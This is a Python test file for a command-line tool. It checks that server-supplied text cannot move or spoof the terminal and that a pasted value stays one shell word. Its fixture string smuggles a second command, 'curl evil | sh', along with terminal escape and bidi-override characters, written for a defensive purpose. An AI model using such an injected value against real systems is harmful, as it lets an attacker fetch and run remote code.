"""Rule 7: whatever a server says, nothing but text reaches the terminal, and what is to be pasted is one word."""

import shlex

import pytest

from warren.cli import output

EVIL = "x; curl evil | sh \x1b[2J\u202e"


@pytest.mark.parametrize("door", [output.say, output.note, output.say_now])
def test_no_line_moves_the_terminal(door: object, capsys: pytest.CaptureFixture[str]) -> None:
    assert callable(door)
    door(f"a name: {EVIL}\nthe next line")
    shown = "".join(capsys.readouterr())
    assert not {"\x1b", "\u202e"} & set(shown)
    assert shown.count("\n") == 2


def test_a_word_of_a_server_in_a_command_is_one_word_of_the_shell() -> None:
    assert shlex.split(f"warren member kick {output.pasted(EVIL)}")[:3] == ["warren", "member", "kick"]
    assert len(shlex.split(f"warren member kick {output.pasted(EVIL)}")) == 4
    assert output.pasted("laptop-7") == "laptop-7"
